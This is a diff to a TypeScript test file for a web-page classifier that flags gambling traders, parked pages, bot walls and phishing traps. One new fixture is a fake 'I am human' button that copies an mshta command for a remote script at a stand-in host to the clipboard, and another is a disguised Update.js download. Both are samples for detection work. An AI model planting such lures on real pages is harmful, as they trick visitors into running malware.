@@ -1,7 +1,12 @@
 import { describe, expect, it } from "vitest";
 import { listParkedReasons } from "./find-parked.ts";
-import { listPhishingReasons, listTrapReasons, listUnfitReasons } from "./find-unfit.ts";
-import { findLeftoverSign, findNotFoundSign, findRobotWallWords } from "./page-signs.ts";
+import { isTraderAlone, listPhishingReasons, listTrapReasons, listUnfitReasons } from "./find-unfit.ts";
+import {
+  findLeftoverSign,
+  findNotFoundSign,
+  findRobotWallProduct,
+  findRobotWallWords,
+} from "./page-signs.ts";
 import { readPage } from "./read-page.ts";
 import { sumOf } from "./reason.ts";
 
@@ -18,6 +23,17 @@ describe("pages about a delicate matter", () => {
     const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils.</p>".repeat(2);
     expect(weightOf("Maths for pupils", `${school}<p>Casino bonus.</p>`)).toBe(0);
     expect(weightOf("Maths for pupils", offers + school)).toBe(2);
+  });
+
+  it("what was promised is no leave for a page that only trades in it", () => {
+    const trades = (body: string) => isTraderAlone(page("Online casino help", body));
+    expect(trades(offers)).toBe(true);
+    expect(trades(`${offers}<p>We tell pupils how to block them.</p>`)).toBe(false);
+    expect(
+      trades(
+        `<p>Online casino, sports betting.</p>${"<p>We listen, day and night, for free.</p>".repeat(9)}`,
+      ),
+    ).toBe(false);
   });
 
   it("a lesson on names for sale is no name for sale", () => {
@@ -52,6 +68,14 @@ describe("what a page does, whatever it says", () => {
     );
   });
 
+  it("a command that a button copies is a trap as well, and one that the page shows is asked about", () => {
+    const button =
+      "<button onclick=\"navigator.clipboard.writeText('mshta https://x.example/a')\">I am human</button>";
+    expect(traps(button)).toBe(3);
+    expect(traps(`${button}<p>Type mshta.</p>`)).toBe(2);
+    expect(traps("<button onclick=\"navigator.clipboard.writeText('MLA 9')\">Cite</button>")).toBe(0);
+  });
+
   it("a program from another site that downloads itself is asked about", () => {
     expect(traps('<a href="https://dl.example/Update.js" download>Update</a>')).toBe(2);
     expect(traps('<a href="https://dl.example/p5.js">p5.js</a><a href="/kit.exe" download>Kit</a>')).toBe(0);
@@ -69,4 +93,14 @@ it("a box that says so and sends visitors back is no page, and one beside a page
   const box = '<script>alert("This post does not exist.");history.back();</script>';
   expect(findNotFoundSign(page("Board", box))).toBe('a box says "This post does not exist."');
   expect(findNotFoundSign(page("Board", `${box}<p>${"A post about tides. ".repeat(5)}</p>`))).toBeUndefined();
+});
+
+it("an empty page that leaves a cookie and calls itself again is a wall", () => {
+  const sign = (script: string, text = "") =>
+    findRobotWallProduct(readPage(`<script>${script}</script><p>${text}</p>`, address));
+  const knock = "document.cookie='a='+('1');location.href=location.pathname+location.search";
+  expect(sign(knock)).toBe("it leaves a cookie and calls itself again");
+  expect(sign("document.cookie='seen=1';location.reload()")).toBeDefined();
+  expect(sign("document.cookie='seen=1';location.href='/home'")).toBeUndefined();
+  expect(sign(knock, "A lesson about tides. ".repeat(5))).toBeUndefined();
 });
